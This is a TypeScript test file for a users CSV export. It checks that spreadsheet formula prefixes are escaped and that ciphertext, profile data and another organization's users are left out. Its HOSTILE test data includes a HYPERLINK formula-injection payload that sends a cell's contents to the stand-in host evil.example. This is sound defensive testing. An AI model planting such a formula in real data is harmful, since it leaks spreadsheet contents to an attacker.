import { afterAll, beforeAll, expect, it } from "vitest";
import { createUserSync } from "@/lib/email/testing/factories";
import { csvRecords } from "@/test-support/csv";
import { createTestDb, type TestDb } from "@/test-support/db";
import { usersCsv } from "./export";
import { userListQuery } from "./queries";

let t: TestDb;
let acme: { organizationId: string; organizationName: string };

/** What anyone who edits a profile in Okta can make a name, and what a spreadsheet then shows. */
const HOSTILE = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', `'=HYPERLINK("http://evil.example/?x="&A1,"Open")`],
  ["+1", "'+1"],
  ["-2+3", "'-2+3"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["\tTabbed", "'\tTabbed"],
  ["Two\r\nlines", "Two\r\nlines"],
  ['Ann "The Boss", Lee', 'Ann "The Boss", Lee'],
  ["Zoë Ångström 👩🏽‍💻 中文", "Zoë Ångström 👩🏽‍💻 中文"],
] as const;

beforeAll(async () => {
  t = await createTestDb();
  const org = await t.db.organization.create({ data: { name: "Acme Ünited", slug: "acme" } });
  acme = { organizationId: org.id, organizationName: org.name };
  const other = await t.db.organization.create({ data: { name: "Other", slug: "other" } });
  const sync = await createUserSync(t.db, {
    organizationId: org.id,
    name: "=Okta, production",
    credentialCiphertext: "secret-ciphertext",
  });
  for (const [i, [name]] of HOSTILE.entries()) {
    await t.db.directoryUser.create({
      data: {
        organizationId: org.id,
        userSyncId: sync.id,
        externalId: `00u${i}`,
        name,
        email: `p${i}@acme.test`,
        username: i === 0 ? "-admin" : `p${i}`,
        status: i % 2 ? "SUSPENDED" : "ACTIVE",
        emailVerified: i % 2 === 0,
        enrollmentStatus: (["NONE", "INVITED", "ENROLLED"] as const)[i % 3],
        profile: { secretAttribute: "profile is not exported" },
        createdAt: new Date(Date.UTC(2025, 0, 1 + i)),
      },
    });
  }
  await t.db.directoryUser.create({
    data: { organizationId: org.id, name: "Dashboard Dan", status: "ACTIVE" },
  });
  await t.db.directoryUser.create({
    data: { organizationId: other.id, name: "Their person", status: "ACTIVE" },
  });
});
afterAll(() => t.close());

const text = async (stream: ReadableStream<Uint8Array>) =>
  new TextDecoder("utf-8", { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());

it("writes every user of the organization as a spreadsheet reads them, formulas neutralised", async () => {
  const { name, body } = usersCsv(t.db, acme, userListQuery.parse({ sort: "created" }), 3);
  expect(name).toMatch(/^Acme Ünited users \d{4}-\d{2}-\d{2}$/);
  const csv = await text(body);
  const records = csvRecords(csv);
  expect(Object.keys(records[0] ?? {})).toEqual([
    "Name",
    "Email",
    "Username",
    "Status",
    "Enrollment",
    "Email verified",
    "Source",
    "Okta id",
    "Created",
    "Updated",
  ]);
  expect(records.map((r) => r.Name)).toEqual([...HOSTILE.map(([, shown]) => shown), "Dashboard Dan"]);
  expect(records[0]).toMatchObject({
    Email: "p0@acme.test",
    Username: "'-admin",
    Status: "ACTIVE",
    Enrollment: "",
    "Email verified": "yes",
    Source: "'=Okta, production",
    "Okta id": "00u0",
    Created: "2025-01-01T00:00:00.000Z",
  });
  expect(records[1]).toMatchObject({ Status: "SUSPENDED", Enrollment: "Invited", "Email verified": "no" });
  expect(records[2]).toMatchObject({ Enrollment: "Enrolled" });
  expect(records.at(-1)).toMatchObject({ Source: "Dashboard", "Okta id": "", Email: "" });
  for (const secret of ["secret-ciphertext", "profile is not exported", "Their person"])
    expect(csv).not.toContain(secret);
});

it("writes only the users the filters match", async () => {
  const csv = await text(usersCsv(t.db, acme, userListQuery.parse({ status: "SUSPENDED", q: "P" })).body);
  // In the page's natural order: punctuation as Unicode's collation orders it ("@" before "+").
  expect(csvRecords(csv).map((r) => r.Email)).toEqual([
    "p3@acme.test",
    "p1@acme.test",
    "p5@acme.test",
    "p7@acme.test",
  ]);
});
